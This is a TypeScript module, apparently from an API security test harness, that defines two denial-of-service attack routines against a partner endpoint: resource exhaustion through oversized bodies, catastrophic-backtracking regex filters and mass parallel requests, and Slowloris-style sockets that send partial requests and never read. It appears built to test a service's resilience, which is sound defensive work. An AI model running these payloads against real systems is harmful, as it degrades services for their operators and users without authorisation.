import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { send } from "../target.ts";
import type { Attack } from "./attack.ts";

/** Requests that are cheap to send and could be expensive to handle. */
export const exhaustion: Attack = {
  name: "exhaustion",
  async run({ target, random, token }) {
    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
    const sites = `/partner/v1/dealers/${target.attacker.dealerId}/sites`;
    const letters = "x".repeat(random.below(500_000));
    const attack = random.pick([
      () => send(target, sites, { method: "POST", headers, body: JSON.stringify({ name: letters.repeat(8) }) }),
      () =>
        send(target, sites, { method: "POST", headers, body: `{"name":"${"\\u0041".repeat(random.below(500_000))}"}` }),
      () =>
        send(target, `${sites}?filter=name,${encodeURIComponent(`(${"a?".repeat(300)}){1,50}b`)},regex`, { headers }),
      () => send(target, `${sites}?${"filter=name,(x%2Bx%2B)%2By,regex&".repeat(100)}`, { headers }),
      () => send(target, `${sites}?limit=1000&sort=address1&offset=${random.below(1e6)}`, { headers }),
      () =>
        send(target, `${sites}/1/devices`, {
          method: "POST",
          headers,
          body: JSON.stringify(Array.from({ length: 20_000 }, () => ({}))),
        }),
      () =>
        send(target, "/oauth/token", {
          method: "POST",
          headers: { "content-type": "application/x-www-form-urlencoded" },
          body: letters,
        }),
    ]);
    return Promise.all([attack(), attack(), attack()]);
  },
};

/** Connections that send or read slowly. */
export const slowConnections: Attack = {
  name: "slow connections",
  async run({ target, random, token }) {
    const authorization = `Host: ${target.host}\r\nAuthorization: Bearer ${token}\r\n`;
    const start = random.pick([
      `POST /partner/v1/dealers/${target.attacker.dealerId}/sites HTTP/1.1\r\n${authorization}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
      `GET /partner/v1/dealers/${target.attacker.dealerId}/sites?limit=1000 HTTP/1.1\r\n${authorization}\r\n`.repeat(
        50,
      ),
      `GET / HTTP/1.1\r\nHost: `,
    ]);
    const sockets = Array.from({ length: 20 }, () => {
      const socket = connect(target.port, target.host, () => socket.write(start));
      // It never reads.
      socket.pause();
      socket.on("error", () => {});
      return socket;
    });
    await wait(200);
    for (const socket of sockets) socket.destroy();
    return [];
  },
};
